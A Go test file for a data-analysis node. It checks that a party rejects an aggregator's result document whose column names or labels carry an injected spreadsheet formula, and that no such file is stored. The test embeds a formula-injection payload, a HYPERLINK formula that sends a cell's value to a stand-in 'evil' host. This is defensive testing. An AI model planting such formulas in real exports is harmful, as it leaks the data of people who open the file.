package node_test

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/cosketch/cosketch/node/aggregator"
	"github.com/cosketch/cosketch/node/party"
	"github.com/cosketch/cosketch/node/stored"
	"github.com/cosketch/cosketch/protocol/analysis"
	"github.com/cosketch/cosketch/protocol/study"
)

// A signed document that names what the study does not is rejected, and a party keeps none of it.
func TestADocumentThatNamesWhatTheStudyDoesNot(t *testing.T) {
	const formula = `=HYPERLINK(\"http://evil/?\"&A1)`
	w, data := wide(3, "[{kind: distance}]")
	b := newBench(t, w, data)
	b.carryAll()
	for name, change := range map[string]func(*aggregator.Further){
		"a feature": func(f *aggregator.Further) {
			f.Raw = bytes.Replace(f.Raw, []byte(`"column": "x0"`), []byte(`"column": "`+formula+`"`), 1)
			f.Raw = bytes.Replace(f.Raw, []byte(`"column":"x0"`), []byte(`"column":"`+formula+`"`), 1)
		},
		"labels": func(f *aggregator.Further) {
			f.Labels = append(f.Labels, analysis.Labels{Format: analysis.LabelsFormat, Study: b.study.ID.String(), Party: "a", Columns: []analysis.RowColumn{
				{Name: "predicted", Texts: slices.Repeat([]string{formula}, 60)},
			}})
		},
	} {
		t.Run(name, func(t *testing.T) {
			st := b.open("agg")
			options := b.deskOptions(st)
			answer, err := aggregator.Analyze(t.Context(), options, b.study, study.Analysis{Kind: study.Cosine}, 1<<30)
			check(t, err)
			change(&answer)
			_, err = aggregator.Publish(options, b.study, answer)
			check(t, err)
			check(t, answer.Close())
			check(t, st.Close())
			in := b.answer("a")
			err = b.byHand("a", fixed("a"), func(p *party.Party) error {
				_, err := p.Import(b.context(), bytes.NewReader(in))
				return err
			})
			if err == nil || !strings.Contains(err.Error(), "checking the names") {
				t.Errorf("error %v", err)
			}
			st = b.open("a")
			defer st.Close()
			if further, _, err := stored.FurtherResults(st, b.study); err != nil || len(further) > 0 {
				t.Errorf("%d further results are kept (%v)", len(further), err)
			}
			files, err := st.Results(b.study.ID)
			check(t, err)
			for _, file := range files {
				raw, err := st.Result(b.study.ID, file)
				check(t, err)
				if strings.Contains(string(raw), "HYPERLINK") {
					t.Errorf("%s holds the formula", file)
				}
			}
			check(t, b.dropFurther())
		})
	}
}

// dropFurther removes the aggregator's further results.
func (b *bench) dropFurther() error {
	st := b.open("agg")
	defer st.Close()
	names, err := st.Results(b.study.ID)
	if err != nil {
		return err
	}
	for _, name := range names {
		if strings.HasPrefix(name, "further-") {
			if err := st.DropResult(b.study.ID, name); err != nil {
				return err
			}
		}
	}
	return nil
}
